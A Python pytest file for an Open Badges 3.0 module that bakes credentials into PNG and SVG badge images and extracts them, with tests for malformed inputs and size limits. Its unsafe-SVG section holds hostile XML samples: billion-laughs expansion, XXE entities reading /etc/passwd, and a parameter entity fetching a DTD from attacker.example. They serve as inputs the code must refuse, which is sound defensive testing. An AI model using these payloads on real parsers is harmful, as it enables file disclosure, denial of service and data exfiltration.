"""Baking credentials into PNG and SVG images, and extracting them (OB 3.0, Baked badge)."""

from __future__ import annotations

import base64
import io
import json
import re
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from PIL import Image

from badges import bake as bake_module
from badges.bake import (
    MAX_CREDENTIAL_BYTES,
    MAX_IMAGE_BYTES,
    OB3_SVG_NAMESPACE,
    bake_png,
    bake_svg,
    extract_credential,
    extract_from_png,
    extract_from_svg,
    extract_ob2_assertion,
    is_png,
    is_svg,
)
from badges.errors import (
    BakingError,
    ImageTooLarge,
    InvalidImage,
    NoCredentialInImage,
    UnsafeXml,
)
from badges.image import default_badge_png, default_badge_svg
from tests.strategies import (
    compact_jws,
    credential_texts,
    json_credentials,
    png_images,
    svg_documents,
    xml_credential_texts,
)

Bake = Callable[[bytes, str], bytes]
Extract = Callable[[bytes], str]

FIXTURE_CREDENTIAL_ID = "http://example.com/credentials/3527"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"

JSON_CREDENTIAL = json.dumps(
    {
        "@context": [
            "https://www.w3.org/ns/credentials/v2",
            "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
        ],
        "id": "https://badges.example.kr/credentials/3f1c9a2e-7b4d-4c1a-9e0f-2d6b8a4c5e71",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "인공지능 기초",
        "credentialSubject": {"achievement": {"name": "인공지능 기초 ]]> 수료"}},
    },
    ensure_ascii=False,
    indent=2,
)
JWS_CREDENTIAL = ".".join(
    base64.urlsafe_b64encode(part.encode()).decode().rstrip("=")
    for part in ('{"alg":"EdDSA"}', '{"vc":{"name":"인공지능 기초"}}', "signature")
)
SMALL_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n'
    b'  <rect width="10" height="10" fill="#123456"/>\n'
    b"</svg>\n"
)


# --------------------------------------------------------------------------------------------
# Helpers: a tiny, independent PNG chunk reader so tests do not trust the code under test.
# --------------------------------------------------------------------------------------------


def png_chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    """Split a PNG into (type, data) pairs, asserting every CRC."""
    assert png.startswith(PNG_SIGNATURE)
    chunks = []
    offset = 8
    while offset < len(png):
        (length,) = struct.unpack_from(">I", png, offset)
        chunk_type = png[offset + 4 : offset + 8]
        data = png[offset + 8 : offset + 8 + length]
        (crc,) = struct.unpack_from(">I", png, offset + 8 + length)
        assert zlib.crc32(chunk_type + data) == crc, chunk_type
        chunks.append((chunk_type, data))
        offset += 12 + length
    return chunks


def build_png(chunks: list[tuple[bytes, bytes]]) -> bytes:
    """Assemble a PNG from (type, data) pairs with correct CRCs."""
    out = [PNG_SIGNATURE]
    for chunk_type, data in chunks:
        crc = zlib.crc32(chunk_type + data)
        out.append(struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", crc))
    return b"".join(out)


def credential_elements(svg: bytes) -> list[bytes]:
    """Every <openbadges:credential> element in the serialized SVG, as raw bytes."""
    return re.findall(
        rb"<openbadges:credential\b.*?(?:/>|</openbadges:credential>)", svg, flags=re.DOTALL
    )


@pytest.fixture(scope="module")
def baking_dir(spec_dir: Path) -> Path:
    """The 1EdTech baked-badge fixtures."""
    return spec_dir / "test-vectors" / "baking"


@pytest.fixture(scope="module")
def plain_png() -> bytes:
    """An unbaked badge PNG."""
    return default_badge_png("Teamwork", size=64)


# --------------------------------------------------------------------------------------------
# 1EdTech fixtures
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "extract"),
    [
        ("ob30-simple-json.png", extract_from_png),
        ("ob30-simple-json.svg", extract_from_svg),
    ],
    ids=["png", "svg"],
)
def test_extracts_1edtech_json_fixtures(baking_dir: Path, filename: str, extract: Extract) -> None:
    """The JSON credential baked by 1EdTech parses and carries the expected id."""
    data = (baking_dir / filename).read_bytes()
    credential = json.loads(extract(data))
    assert credential["id"] == FIXTURE_CREDENTIAL_ID
    assert "OpenBadgeCredential" in credential["type"]
    assert extract_credential(data) == extract(data)


@pytest.mark.parametrize(
    ("filename", "extract"),
    [
        ("ob30-simple-jwt.png", extract_from_png),
        ("ob30-simple-jwt.svg", extract_from_svg),
    ],
    ids=["png", "svg"],
)
def test_extracts_1edtech_jwt_fixtures(baking_dir: Path, filename: str, extract: Extract) -> None:
    """The VC-JWT baked by 1EdTech is a three-segment compact JWS about the expected credential."""
    data = (baking_dir / filename).read_bytes()
    token = extract(data)
    segments = token.split(".")
    assert len(segments) == 3
    payload = json.loads(base64.urlsafe_b64decode(segments[1] + "=" * (-len(segments[1]) % 4)))
    assert payload["id"] == FIXTURE_CREDENTIAL_ID
    assert extract_credential(data) == token


@pytest.mark.parametrize(
    "filename",
    ["ob30-simple-json.png", "ob30-simple-jwt.png", "ob30-simple-json.svg", "ob30-simple-jwt.svg"],
    ids=["json-png", "jwt-png", "json-svg", "jwt-svg"],
)
def test_rebaking_1edtech_fixtures_replaces_their_credential(
    baking_dir: Path, filename: str
) -> None:
    """Baking into an already baked 1EdTech image replaces the credential instead of adding one."""
    data = (baking_dir / filename).read_bytes()
    bake: Bake = bake_png if filename.endswith(".png") else bake_svg
    baked = bake(data, JSON_CREDENTIAL)
    assert extract_credential(baked) == JSON_CREDENTIAL
    if filename.endswith(".png"):
        keywords = [d.split(b"\x00")[0] for t, d in png_chunks(baked) if t == b"iTXt"]
        assert keywords.count(b"openbadgecredential") == 1
    else:
        assert len(credential_elements(baked)) == 1


# --------------------------------------------------------------------------------------------
# Round trips
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("credential", [JSON_CREDENTIAL, JWS_CREDENTIAL], ids=["json", "jws"])
@pytest.mark.parametrize("image_format", ["png", "svg"], ids=["png", "svg"])
def test_bake_then_extract_round_trips(image_format: str, credential: str) -> None:
    """A JSON or JWS credential with Hangul comes back unchanged from PNG and SVG."""
    if image_format == "png":
        baked = bake_png(default_badge_png("인공지능 기초", size=64), credential)
        assert extract_from_png(baked) == credential
    else:
        baked = bake_svg(default_badge_svg("인공지능 기초", issuer_name="한빛대학교"), credential)
        assert extract_from_svg(baked) == credential
    assert extract_credential(baked) == credential


@pytest.mark.parametrize("image_format", ["png", "svg"], ids=["png", "svg"])
def test_rebaking_is_the_same_as_baking_once(image_format: str) -> None:
    """Baking twice gives the same bytes as baking the second credential into the plain image."""
    bake: Bake = bake_png if image_format == "png" else bake_svg
    plain = default_badge_png("Teamwork", size=64) if image_format == "png" else SMALL_SVG
    twice = bake(bake(plain, JWS_CREDENTIAL), JSON_CREDENTIAL)
    assert twice == bake(plain, JSON_CREDENTIAL)
    assert bake(twice, JSON_CREDENTIAL) == twice


# --------------------------------------------------------------------------------------------
# PNG specifics
# --------------------------------------------------------------------------------------------


def test_png_chunk_is_uncompressed_itxt_before_iend(plain_png: bytes) -> None:
    """The credential is one iTXt chunk with flags 0/0 and empty tags, just before IEND."""
    baked = bake_png(plain_png, JSON_CREDENTIAL)
    chunks = png_chunks(baked)
    assert chunks[-1] == (b"IEND", b"")
    assert chunks[-2] == (
        b"iTXt",
        b"openbadgecredential\x00\x00\x00\x00\x00" + JSON_CREDENTIAL.encode(),
    )
    assert [t for t, _ in chunks[:-2]] == [t for t, _ in png_chunks(plain_png)[:-1]]


def test_baked_png_is_read_by_pillow(plain_png: bytes) -> None:
    """Pillow decodes the baked PNG, checking CRCs, and finds the credential as iTXt text."""
    baked = bake_png(plain_png, JSON_CREDENTIAL)
    with Image.open(io.BytesIO(baked)) as image:
        image.load()
        assert image.size == (64, 64)
        assert image.info["openbadgecredential"] == JSON_CREDENTIAL


def test_png_keeps_other_chunks_byte_for_byte(baking_dir: Path) -> None:
    """Re-baking the 1EdTech PNG keeps every other chunk identical and in order."""
    original = (baking_dir / "ob30-simple-json.png").read_bytes()
    baked = bake_png(original, JWS_CREDENTIAL)
    keep = [c for c in png_chunks(original) if c[0] != b"iTXt"]
    assert [c for c in png_chunks(baked) if c[0] != b"iTXt"] == keep


def test_png_reads_a_compressed_chunk(plain_png: bytes) -> None:
    """A compressed openbadgecredential chunk, which the spec forbids, is still read."""
    chunks = png_chunks(plain_png)
    compressed = b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(
        JSON_CREDENTIAL.encode()
    )
    png = build_png([*chunks[:-1], (b"iTXt", compressed), chunks[-1]])
    assert extract_from_png(png) == JSON_CREDENTIAL


def test_png_first_credential_chunk_wins(plain_png: bytes) -> None:
    """With two openbadgecredential chunks, extraction returns the first, as the spec says."""
    chunks = png_chunks(plain_png)
    first = (b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00first")
    second = (b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00second")
    png = build_png([*chunks[:-1], first, second, chunks[-1]])
    assert extract_from_png(png) == "first"
    assert extract_from_png(bake_png(png, "third")) == "third"


def test_png_ignores_other_text_chunks(plain_png: bytes) -> None:
    """tEXt chunks and iTXt chunks with other keywords are not the credential."""
    chunks = png_chunks(plain_png)
    others = [
        (b"tEXt", b"openbadgecredential\x00not this"),
        (b"iTXt", b"openbadges\x00\x00\x00\x00\x00https://example.com/assertion"),
    ]
    png = build_png([*chunks[:-1], *others, chunks[-1]])
    with pytest.raises(NoCredentialInImage, match="no openbadgecredential") as err:
        extract_from_png(png)
    assert err.value.code == "no-credential-in-image"
    baked = bake_png(png, "x.y.z")
    assert [c for c in png_chunks(baked) if c in others] == others


def _corrupt_crc(png: bytes) -> bytes:
    data = bytearray(png)
    data[-20] ^= 0xFF  # a byte of the last IDAT chunk, so its CRC no longer matches
    return bytes(data)


def _bad_pngs(png: bytes) -> dict[str, bytes]:
    chunks = png_chunks(png)
    return {
        "truncated-half": png[: len(png) // 2],
        "truncated-in-header": png[:20],
        "truncated-chunk-header": png[:15],
        "truncated-before-iend": png[:-12],
        "signature-only": PNG_SIGNATURE,
        "bad-crc": _corrupt_crc(png),
        "ihdr-not-first": build_png([chunks[1], chunks[0], *chunks[2:]]),
        "no-idat": build_png([c for c in chunks if c[0] != b"IDAT"]),
        "bad-chunk-type": build_png([chunks[0], (b"I1AT", b""), *chunks[1:]]),
        "trailing-bytes": png + b"<html>polyglot</html>",
        "huge-length": png[:8] + b"\xff\xff\xff\xff" + png[12:],
        "bad-ihdr-length": build_png([(b"IHDR", chunks[0][1][:12]), *chunks[1:]]),
    }


@pytest.mark.parametrize(
    "case",
    [
        "truncated-half",
        "truncated-in-header",
        "truncated-chunk-header",
        "truncated-before-iend",
        "signature-only",
        "bad-crc",
        "ihdr-not-first",
        "no-idat",
        "bad-chunk-type",
        "trailing-bytes",
        "huge-length",
        "bad-ihdr-length",
    ],
    ids=str,
)
def test_malformed_png_is_refused(plain_png: bytes, case: str) -> None:
    """A truncated or corrupt PNG raises InvalidImage on baking and on extraction."""
    png = _bad_pngs(bake_png(plain_png, JWS_CREDENTIAL))[case]
    with pytest.raises(InvalidImage, match=r"PNG|IEND|IHDR|CRC") as err:
        extract_from_png(png)
    assert err.value.code == "invalid-image"
    with pytest.raises(InvalidImage, match=r"PNG|IEND|IHDR|CRC"):
        bake_png(png, JWS_CREDENTIAL)


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"openbadgecredential\x00", "no compression fields"),
        (b"openbadgecredential\x00\x00\x00no-separators", "missing separators"),
        (b"openbadgecredential\x00\x02\x00\x00\x00x", "unknown compression"),
        (b"openbadgecredential\x00\x00\x00\x00\x00\xff\xfe", "not UTF-8"),
        (b"openbadgecredential\x00\x01\x00\x00\x00not zlib", "corrupt"),
        (b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(b"{}")[:-3], "truncated"),
    ],
    ids=["short", "no-separators", "unknown-compression", "not-utf8", "bad-zlib", "cut-zlib"],
)
def test_malformed_credential_chunk_is_refused(
    plain_png: bytes, payload: bytes, message: str
) -> None:
    """A malformed openbadgecredential chunk raises InvalidImage naming the problem."""
    chunks = png_chunks(plain_png)
    png = build_png([*chunks[:-1], (b"iTXt", payload), chunks[-1]])
    with pytest.raises(InvalidImage, match=message):
        extract_from_png(png)


def test_png_zip_bomb_is_refused(plain_png: bytes) -> None:
    """A compressed chunk inflating past the credential limit raises ImageTooLarge."""
    chunks = png_chunks(plain_png)
    bomb = zlib.compress(b"\x00" * (MAX_CREDENTIAL_BYTES + 1), 9)
    assert len(bomb) < 10_000
    png = build_png([*chunks[:-1], (b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + bomb)])
    png += build_png([chunks[-1]])[8:]
    with pytest.raises(ImageTooLarge, match="inflates past") as err:
        extract_from_png(png)
    assert err.value.code == "image-too-large"


def test_empty_credential_chunk_is_no_credential(plain_png: bytes) -> None:
    """An openbadgecredential chunk with empty text counts as no credential."""
    chunks = png_chunks(plain_png)
    png = build_png(
        [*chunks[:-1], (b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00"), chunks[-1]]
    )
    with pytest.raises(NoCredentialInImage, match="empty"):
        extract_from_png(png)


def test_oversized_png_is_refused(plain_png: bytes) -> None:
    """An image over the size limit raises ImageTooLarge before it is parsed."""
    chunks = png_chunks(plain_png)
    padding = (b"zzZz", b"\x00" * MAX_IMAGE_BYTES)
    png = build_png([*chunks[:-1], padding, chunks[-1]])
    for call in (extract_from_png, extract_credential):
        with pytest.raises(ImageTooLarge, match="at most") as err:
            call(png)
        assert err.value.code == "image-too-large"


def test_oversized_credential_is_refused(plain_png: bytes) -> None:
    """A credential over the credential limit raises ImageTooLarge."""
    with pytest.raises(ImageTooLarge, match="credential is"):
        bake_png(plain_png, "a" * (MAX_CREDENTIAL_BYTES + 1))


def test_uncompressed_oversized_chunk_is_refused(plain_png: bytes) -> None:
    """An uncompressed credential chunk over the credential limit raises ImageTooLarge."""
    chunks = png_chunks(plain_png)
    text = b"openbadgecredential\x00\x00\x00\x00\x00" + b"a" * (MAX_CREDENTIAL_BYTES + 1)
    png = build_png([*chunks[:-1], (b"iTXt", text), chunks[-1]])
    with pytest.raises(ImageTooLarge, match="exceeds"):
        extract_from_png(png)


def test_baked_result_over_the_limit_is_refused(plain_png: bytes) -> None:
    """Baking that would push the image past the size limit raises ImageTooLarge."""
    chunks = png_chunks(plain_png)
    padding = (b"zzZz", b"\x00" * (MAX_IMAGE_BYTES - len(plain_png) - 100))
    png = build_png([*chunks[:-1], padding, chunks[-1]])
    with pytest.raises(ImageTooLarge, match="at most"):
        bake_png(png, "a" * 200)


# --------------------------------------------------------------------------------------------
# Credentials that cannot be baked
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("credential", "message"),
    [("", "empty"), ("{\ud800}", "surrogate")],
    ids=["empty", "lone-surrogate"],
)
@pytest.mark.parametrize("image_format", ["png", "svg"], ids=["png", "svg"])
def test_unbakeable_credential_is_refused(
    plain_png: bytes, image_format: str, credential: str, message: str
) -> None:
    """An empty or unencodable credential raises BakingError."""
    bake: Bake = bake_png if image_format == "png" else bake_svg
    image = plain_png if image_format == "png" else SMALL_SVG
    with pytest.raises(BakingError, match=message) as err:
        bake(image, credential)
    assert err.value.code == "baking-error"


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\ufffe"], ids=["nul", "escape", "fffe"])
def test_svg_refuses_characters_xml_cannot_carry(char: str) -> None:
    """A credential with a character XML 1.0 forbids raises BakingError for SVG."""
    with pytest.raises(BakingError, match="XML forbids"):
        bake_svg(SMALL_SVG, "{" + char + "}")


# --------------------------------------------------------------------------------------------
# SVG specifics
# --------------------------------------------------------------------------------------------


def test_svg_json_goes_in_cdata_after_the_svg_start_tag() -> None:
    """JSON is baked as CDATA in the first child of <svg>, with the namespace on the root."""
    baked = bake_svg(SMALL_SVG, '{"a": 1}')
    assert baked == SMALL_SVG.replace(
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">',
        b'<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" '
        b'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        b'<openbadges:credential><![CDATA[{"a": 1}]]></openbadges:credential>',
    )


def test_svg_jws_goes_in_the_verify_attribute() -> None:
    """A compact JWS is baked in the verify attribute of an empty element."""
    baked = bake_svg(SMALL_SVG, JWS_CREDENTIAL)
    assert credential_elements(baked) == [
        f'<openbadges:credential verify="{JWS_CREDENTIAL}"/>'.encode()
    ]


@pytest.mark.parametrize(
    "credential",
    ['{"n": "a]]>b"}', "]]>", "]]]]>>", '{"n": "line\r\nbreak\rcr"}', "\r", " padded \t\n"],
    ids=["cdata-end", "only-cdata-end", "nested-cdata-end", "carriage-returns", "only-cr", "space"],
)
def test_svg_cdata_survives_terminators_and_carriage_returns(credential: str) -> None:
    """]]> and carriage returns in the JSON come back unchanged."""
    assert extract_from_svg(bake_svg(SMALL_SVG, credential)) == credential


def test_svg_keeps_the_rest_of_the_document_byte_for_byte() -> None:
    """Removing the credential element from a baked SVG gives back the original document."""
    original = default_badge_svg("인공지능 기초", issuer_name="한빛대학교")
    baked = bake_svg(original, JSON_CREDENTIAL)
    (element,) = credential_elements(baked)
    unbaked = baked.replace(element, b"").replace(
        b' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"', b""
    )
    assert unbaked == original


def test_svg_self_closing_root_is_opened() -> None:
    """<svg/> is turned into <svg>credential</svg>."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
    baked = bake_svg(svg, "{}")
    assert baked.endswith(b"<![CDATA[{}]]></openbadges:credential></svg>")
    assert extract_from_svg(baked) == "{}"


def test_svg_prefixed_root_is_closed_with_its_prefix() -> None:
    """A self-closing root written <s:svg/> is closed with </s:svg>."""
    svg = b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>'
    baked = bake_svg(svg, "{}")
    assert baked.endswith(b"</s:svg>")
    assert extract_from_svg(baked) == "{}"


def test_svg_with_ob2_prefix_declares_ob3_namespace_locally() -> None:
    """If openbadges is bound to the OB 2.0 namespace, the OB 3.0 one is declared on the element."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/assertion"/></svg>'
    )
    baked = bake_svg(svg, JWS_CREDENTIAL)
    assert f'<openbadges:credential xmlns:openbadges="{OB3_SVG_NAMESPACE}"'.encode() in baked
    assert b'<openbadges:assertion verify="https://example.org/assertion"/>' in baked
    assert extract_from_svg(baked) == JWS_CREDENTIAL


def test_svg_existing_namespace_is_not_declared_twice(baking_dir: Path) -> None:
    """The 1EdTech SVG already declares xmlns:openbadges; baking leaves a single declaration."""
    baked = bake_svg((baking_dir / "ob30-simple-jwt.svg").read_bytes(), JSON_CREDENTIAL)
    assert baked.count(b"xmlns:openbadges=") == 1


def test_svg_credential_in_another_prefix_is_found_and_replaced() -> None:
    """The credential element is matched by namespace, not by prefix."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><g>'
        b'<ob:credential xmlns:ob="https://purl.imsglobal.org/ob/v3p0">'
        b"<![CDATA[old]]></ob:credential></g></svg>"
    )
    assert extract_from_svg(svg) == "old"
    baked = bake_svg(svg, "new")
    assert b"ob:credential" not in baked
    assert extract_from_svg(baked) == "new"


def test_svg_first_credential_element_wins_and_all_are_replaced() -> None:
    """Extraction returns the first credential element; baking removes every one of them."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="%s">'
        b"<openbadges:credential>first<nested>, with a child</nested></openbadges:credential>"
        b'<g><openbadges:credential verify="second.jws.token"/></g>'
        b"<openbadges:credential>third</openbadges:credential></svg>"
    ) % OB3_SVG_NAMESPACE.encode()
    assert extract_from_svg(svg) == "first, with a child"
    baked = bake_svg(svg, "new")
    assert len(credential_elements(baked)) == 1
    assert baked.endswith(b"<g></g></svg>")
    assert extract_from_svg(baked) == "new"


def test_svg_verify_attribute_wins_over_body() -> None:
    """When both are present, the verify attribute is the credential."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="%s">'
        b'<openbadges:credential verify="a.b.c">{"ignored": true}</openbadges:credential></svg>'
    ) % OB3_SVG_NAMESPACE.encode()
    assert extract_from_svg(svg) == "a.b.c"


def test_svg_without_credential_has_none() -> None:
    """An SVG with no OB 3.0 credential element raises NoCredentialInImage."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:credential verify="a.b.c"/></svg>'
    )
    for data in (SMALL_SVG, svg):
        with pytest.raises(NoCredentialInImage, match="no <openbadges:credential>") as err:
            extract_from_svg(data)
        assert err.value.code == "no-credential-in-image"


def test_svg_empty_credential_element_is_no_credential() -> None:
    """An empty credential element counts as no credential."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><c:credential xmlns:c="%s"/></svg>' % (
        OB3_SVG_NAMESPACE.encode()
    )
    with pytest.raises(NoCredentialInImage, match="empty"):
        extract_from_svg(svg)


def test_utf16_svg_is_read_but_not_baked() -> None:
    """A UTF-16 SVG can be extracted from, but baking asks for UTF-8."""
    baked = bake_svg(SMALL_SVG, JSON_CREDENTIAL).decode("utf-8")
    utf16 = baked.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert is_svg(utf16)
    assert extract_from_svg(utf16) == JSON_CREDENTIAL
    assert extract_credential(utf16) == JSON_CREDENTIAL
    with pytest.raises(InvalidImage, match="only UTF-8"):
        bake_svg(utf16, "{}")


def test_svg_declared_latin1_is_not_baked() -> None:
    """An SVG declaring a non-UTF-8 encoding is refused for baking."""
    svg = SMALL_SVG.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    with pytest.raises(InvalidImage, match="only UTF-8"):
        bake_svg(svg, "{}")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>
"""
XXE_INTERNAL_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"
     xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
  <openbadges:credential>&xxe;</openbadges:credential>
</svg>
"""
XXE_EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg SYSTEM "file:///etc/passwd">
<svg xmlns="http://www.w3.org/2000/svg"/>
"""
PARAMETER_ENTITY = b"""<!DOCTYPE svg [
  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;
]>
<svg xmlns="http://www.w3.org/2000/svg"/>
"""
LOWERCASE_DOCTYPE_WITH_SUBSET = (
    b'<!doctype svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd" []>'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>'
)
STANDARD_DOCTYPE_WITH_SUBSET = (
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ATTLIST svg a CDATA "b">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>'
)
TWO_DOCTYPES = (
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    b'<!DOCTYPE svg SYSTEM "file:///etc/passwd">'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>'
)
# An element-like "<a" in a comment or PI must not end the prolog scan early.
DOCTYPE_AFTER_DECOY_COMMENT = b"""<!-- <a -->
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
"""
DOCTYPE_AFTER_DECOY_PI = b"""<?decoy <a ?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
"""
# The standard DOCTYPE is allowed, but an entity its (never fetched) DTD might define is not.
ENTITY_FROM_EXTERNAL_DTD = (
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>'
)
UTF16_XXE = XXE_INTERNAL_SUBSET.decode().encode("utf-16")


@pytest.mark.parametrize(
    "svg",
    [
        BILLION_LAUGHS,
        XXE_INTERNAL_SUBSET,
        XXE_EXTERNAL_DTD,
        PARAMETER_ENTITY,
        LOWERCASE_DOCTYPE_WITH_SUBSET,
        STANDARD_DOCTYPE_WITH_SUBSET,
        TWO_DOCTYPES,
        DOCTYPE_AFTER_DECOY_COMMENT,
        DOCTYPE_AFTER_DECOY_PI,
        ENTITY_FROM_EXTERNAL_DTD,
        UTF16_XXE,
    ],
    ids=[
        "billion-laughs",
        "xxe-internal-subset",
        "xxe-external-dtd",
        "parameter-entity",
        "lowercase-doctype",
        "standard-doctype-with-subset",
        "two-doctypes",
        "decoy-comment",
        "decoy-pi",
        "entity-from-external-dtd",
        "utf16-xxe",
    ],
)
def test_unsafe_svg_is_refused(svg: bytes) -> None:
    """DTDs with entities or unknown DOCTYPEs raise UnsafeXml, for extraction and baking."""
    with pytest.raises(UnsafeXml, match=r"DOCTYPE|entit|DTD") as err:
        extract_from_svg(svg)
    assert err.value.code == "unsafe-xml"
    with pytest.raises(UnsafeXml, match=r"DOCTYPE|entit|DTD"):
        extract_credential(svg)
    if not svg.startswith(b"\xff\xfe"):
        with pytest.raises(UnsafeXml, match=r"DOCTYPE|entit|DTD"):
            bake_svg(svg, "{}")


@pytest.mark.parametrize(
    "svg",
    [BILLION_LAUGHS, XXE_INTERNAL_SUBSET, XXE_EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe-internal-subset", "xxe-external-dtd", "parameter-entity"],
)
def test_parser_refuses_dtds_without_the_prescan(svg: bytes) -> None:
    """The expat hooks alone, the second line of defence, refuse the same documents."""
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        bake_module._parse_svg(svg, locate=False)


def test_standard_svg_doctype_is_accepted() -> None:
    """The plain W3C SVG 1.1 DOCTYPE that drawing tools write is accepted and kept."""
    doctype = (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    )
    svg = SMALL_SVG.replace(b"?>\n", b"?>\n" + doctype)
    baked = bake_svg(svg, "{}")
    assert doctype in baked
    assert extract_from_svg(baked) == "{}"


@pytest.mark.parametrize(
    ("svg", "message"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "not well-formed"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>&nbsp;</svg>", "not well-formed"),
        (b"<html><body>not svg</body></html>", "root element is not an SVG"),
        (b'<?xml version="1.0" encoding="no-such"?><svg/>', "not well-formed|cannot be decoded"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>\xff</svg>", "not well-formed"),
        (b"", "not well-formed"),
    ],
    ids=["unclosed", "undefined-entity", "html-root", "unknown-encoding", "bad-utf8", "empty"],
)
def test_invalid_svg_is_refused(svg: bytes, message: str) -> None:
    """Bytes that are not a well-formed SVG raise InvalidImage."""
    with pytest.raises(InvalidImage, match=message) as err:
        extract_from_svg(svg)
    assert err.value.code == "invalid-image"


# The prolog scan once used a lazy regular expression over the whole document, which took
# seconds for 80 KB of unterminated "<!--"; a 10 MiB upload would have hung a worker.
@pytest.mark.parametrize(
    "svg",
    [
        b"<!--" * (MAX_IMAGE_BYTES // 4),
        b"<?" * (MAX_IMAGE_BYTES // 2),
        b"<" * MAX_IMAGE_BYTES,
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<!--" * (MAX_IMAGE_BYTES // 8),
    ],
    ids=["comment-openers", "pi-openers", "angle-brackets", "after-root"],
)
def test_regression_prolog_scan_backtracking(svg: bytes) -> None:
    """Pathological markup is refused in linear time."""
    with pytest.raises(InvalidImage, match=r"not well-formed|neither"):
        extract_credential(svg)
    with pytest.raises(InvalidImage, match="not well-formed"):
        extract_from_svg(svg)


def test_too_much_markup_before_the_root_is_refused() -> None:
    """Thousands of declarations or comments before <svg> raise InvalidImage."""
    for svg in (b"<!-- -->" * 1001 + SMALL_SVG, b"<!" * 2000 + SMALL_SVG):
        assert not is_svg(svg)
        with pytest.raises(InvalidImage, match="too much markup"):
            extract_from_svg(svg)
    without_declaration = bake_svg(SMALL_SVG, "{}").split(b"\n", 1)[1]
    assert extract_from_svg(b"<!-- -->" * 990 + without_declaration) == "{}"


def test_oversized_svg_is_refused() -> None:
    """An SVG over the size limit raises ImageTooLarge."""
    svg = SMALL_SVG.replace(b"</svg>", b"<!--" + b"x" * MAX_IMAGE_BYTES + b"--></svg>")
    with pytest.raises(ImageTooLarge, match="at most"):
        extract_from_svg(svg)


# --------------------------------------------------------------------------------------------
# Sniffing and dispatch
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "png", "svg"),
    [
        (PNG_SIGNATURE + b"rest", True, False),
        (SMALL_SVG, False, True),
        (b"\xef\xbb\xbf<svg/>", False, True),
